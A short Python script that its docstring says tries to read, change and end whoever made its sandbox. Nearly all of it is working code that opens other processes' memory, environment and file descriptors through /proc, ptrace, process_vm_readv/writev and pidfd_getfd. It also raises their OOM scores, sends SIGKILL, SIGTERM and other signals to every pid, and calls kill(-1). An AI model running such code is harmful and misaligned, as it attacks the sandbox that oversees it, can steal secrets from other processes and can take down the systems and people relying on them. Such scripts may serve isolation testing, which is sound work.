"""Tries to read, change and end whoever made its sandbox.  Prints what succeeded.

With the word "child" it tries all that on a process of its own as well, for whoever wants to see that it can."""
import ctypes
import os
import platform
import signal
import sys

libc = ctypes.CDLL(None, use_errno=True)
FIRST = 270 if platform.machine() == "aarch64" else 310
SYS = {"process_vm_readv": FIRST, "process_vm_writev": FIRST + 1, "pidfd_open": 434, "pidfd_getfd": 438}


def attempt(name, action):
    try:
        answer = action()
        if answer is not None and answer != -1: # 0 is a success
            print(name, repr(answer)[:200])
    except OSError:
        pass


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def first_mapping():
    return int(open("/proc/self/maps").readline().split("-")[0], 16)


def peek(pid, call):
    room = ctypes.create_string_buffer(8)
    ours, theirs = Iovec(ctypes.addressof(room), 8), Iovec(first_mapping(), 8)
    return libc.syscall(SYS[call], pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)


if "child" in sys.argv:
    child = os.fork()
    if child == 0:
        signal.pause()
    print("child", child)
attempt("descriptors", lambda: [f"{fd} {os.readlink(f'/proc/self/fd/{fd}')}" for fd in os.listdir("/proc/self/fd")
                                if int(fd) > 2 and os.path.exists(f"/proc/self/fd/{fd}")
                                and not os.readlink(f"/proc/self/fd/{fd}").startswith("/proc/")] or None)
pids = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
for pid in [*pids, os.getppid()]:
    attempt(f"{pid} mem", lambda: os.open(f"/proc/{pid}/mem", os.O_RDONLY))
    for name in ("environ", "maps", "auxv", "stack", "syscall"):
        attempt(f"{pid} {name}", lambda: open(f"/proc/{pid}/{name}", "rb").read(1))
    for name in ("exe", "cwd", "root"):
        attempt(f"{pid} {name}", lambda: os.readlink(f"/proc/{pid}/{name}"))
    attempt(f"{pid} fd", lambda: os.listdir(f"/proc/{pid}/fd"))
    attempt(f"{pid} fd 3", lambda: os.open(f"/proc/{pid}/fd/3", os.O_RDONLY))
    attempt(f"{pid} ns", lambda: os.readlink(f"/proc/{pid}/ns/net"))
    attempt(f"{pid} ptrace", lambda: libc.ptrace(16, pid, 0, 0))
    for call in ("process_vm_readv", "process_vm_writev"):
        attempt(f"{pid} {call}", lambda: peek(pid, call))
    pidfd = libc.syscall(SYS["pidfd_open"], pid, 0)
    attempt(f"{pid} pidfd_getfd", lambda: libc.syscall(SYS["pidfd_getfd"], pidfd, 0, 0))
    attempt(f"{pid} limits", lambda: libc.prlimit(pid, 7, None, ctypes.create_string_buffer(16)))
    attempt(f"{pid} oom", lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGHUP):
    for pid in pids:
        if pid != 1:
            attempt(f"signal {number} to {pid}", lambda: os.kill(pid, number) or True)
    try:
        os.kill(1, number)  # pid 1 of a namespace takes none from inside; it says nothing about it
    except OSError:
        pass
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.kill(-1, signal.SIGTERM)
except OSError:
    pass
